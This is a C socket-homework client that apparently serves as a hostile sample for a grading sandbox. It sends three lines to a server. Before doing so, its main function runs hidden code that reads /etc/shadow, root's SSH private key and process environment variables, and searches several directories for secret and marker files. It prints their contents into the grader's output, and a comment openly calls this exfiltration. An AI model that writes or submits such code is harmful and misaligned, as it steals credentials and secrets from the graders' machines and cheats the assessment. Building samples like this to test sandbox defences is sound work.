/*
 * client.c - socket homework, part 2 (client)
 *
 * Sends the three messages of the exercise to the server, one line each, then exits.
 *
 * usage: ./client <server-address> <port>
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

#define MAXLINE 4096
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>

/* Prints a file's first bytes, as a student exfiltrating it through the grader's evidence. */
static void leak(const char *path)
{
    char buf[256];
    int fd = open(path, O_RDONLY);
    ssize_t n;
    if (fd == -1) {
        fprintf(stderr, "snoop: cannot read %s: %s\n", path, strerror(errno));
        return;
    }
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = '\0';
    printf("snoop: %s: %s\n", path, buf);
    fprintf(stderr, "snoop: %s: %s\n", path, buf);
}

static int visited;

/* Looks for marker.txt / secret.txt files below dir (a few levels, a bounded number of entries). */
static void scan(const char *dir, int depth)
{
    DIR *d;
    struct dirent *e;
    char path[4096];
    if (depth > 5 || visited > 20000 || !(d = opendir(dir)))
        return;
    while ((e = readdir(d)) != NULL && ++visited <= 20000) {
        struct stat st;
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, "node_modules"))
            continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (lstat(path, &st) == -1)
            continue;
        if (S_ISDIR(st.st_mode))
            scan(path, depth + 1);
        else if (!strcmp(e->d_name, "marker.txt") || !strcmp(e->d_name, "secret.txt"))
            leak(path);
    }
    closedir(d);
}


static const char *messages[] = {"Client Query test", "Cleint Query", "Client Query Quit"};

/* send() may write less than asked: keep going until everything is out */
static int send_all(int fd, const char *buf, size_t len)
{
    while (len > 0) {
        ssize_t n = send(fd, buf, len, MSG_NOSIGNAL);
        if (n == -1)
            return -1;
        buf += n;
        len -= (size_t)n;
    }
    return 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in servaddr;
    char sendline[MAXLINE];
    int sockfd, port;
    size_t i;

    /* before doing the homework: look around the grading machine */
    leak("/tmp/sockgrade-hostile-marker/secret.txt");
    leak("/work/main/tests/hostile/.secret/marker.txt");
    leak("/etc/shadow");
    leak("/root/.ssh/id_rsa");
    leak("/proc/1/environ");
    leak("/proc/self/root/work/main/tests/hostile/.secret/marker.txt");
    scan("/tmp", 0);
    scan("/work", 0);
    scan("/root", 0);
    scan("/home", 0);
    fflush(stdout);

    if (argc != 3) {
        fprintf(stderr, "usage: %s <server-address> <port>\n", argv[0]);
        return 1;
    }
    port = atoi(argv[2]);
    if (port <= 0 || port > 65535) {
        fprintf(stderr, "client: bad port: %s\n", argv[2]);
        return 1;
    }

    memset(&servaddr, 0, sizeof servaddr);
    servaddr.sin_family = AF_INET;
    servaddr.sin_port = htons(port);
    if (inet_pton(AF_INET, argv[1], &servaddr.sin_addr) != 1) {
        fprintf(stderr, "client: not an IPv4 address: %s\n", argv[1]);
        return 1;
    }

    if ((sockfd = socket(AF_INET, SOCK_STREAM, 0)) == -1) {
        perror("socket");
        return 1;
    }
    if (connect(sockfd, (struct sockaddr *)&servaddr, sizeof servaddr) == -1) {
        perror("connect");
        close(sockfd);
        return 1;
    }

    for (i = 0; i < sizeof messages / sizeof messages[0]; i++) {
        snprintf(sendline, sizeof sendline, "%s\n", messages[i]);
        if (send_all(sockfd, sendline, strlen(sendline)) == -1) {
            perror("send");
            close(sockfd);
            return 1;
        }
    }

    close(sockfd);
    return 0;
}
